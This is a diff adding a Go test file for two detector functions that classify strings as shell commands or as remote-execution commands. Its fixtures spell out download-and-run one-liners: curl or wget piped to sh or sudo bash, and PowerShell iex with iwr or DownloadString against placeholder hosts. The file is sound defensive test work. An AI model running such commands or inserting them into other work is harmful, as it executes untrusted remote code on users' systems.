@@ -0,0 +1,49 @@
+package detections
+
+import "testing"
+
+func TestIsShellCommand(t *testing.T) {
+	tests := []struct {
+		value string
+		want  bool
+	}{
+		{"curl -s https://example.com/x.sh", true},
+		{"npm run build && node setup.js", true},
+		{"sudo wget http://example.com", true},
+		{"powershell -c \"iex foo\"", true},
+		{"node", false},
+		{"https://registry.npmjs.org/", false},
+		{">=14", false},
+		{"a shell script", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.value, func(t *testing.T) {
+			if got := IsShellCommand(tt.value); got != tt.want {
+				t.Errorf("IsShellCommand(%q) = %v, want %v", tt.value, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIsRemoteExecution(t *testing.T) {
+	tests := []struct {
+		command string
+		want    bool
+	}{
+		{"curl -s https://example.com/x.sh | sh", true},
+		{"wget -qO- http://1.2.3.4/x | sudo bash", true},
+		{"bash -c \"$(curl -fsSL https://example.com/install.sh)\"", true},
+		{"powershell -c \"iex (iwr https://example.com/x.ps1)\"", true},
+		{"powershell -c \"(New-Object Net.WebClient).DownloadString('https://example.com') | iex\"", true},
+		{"curl -o x.tgz https://example.com/x.tgz", false},
+		{"node install.js | tee log.txt", false},
+		{"cat setup.sh | sh", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			if got := IsRemoteExecution(tt.command); got != tt.want {
+				t.Errorf("IsRemoteExecution(%q) = %v, want %v", tt.command, got, tt.want)
+			}
+		})
+	}
+}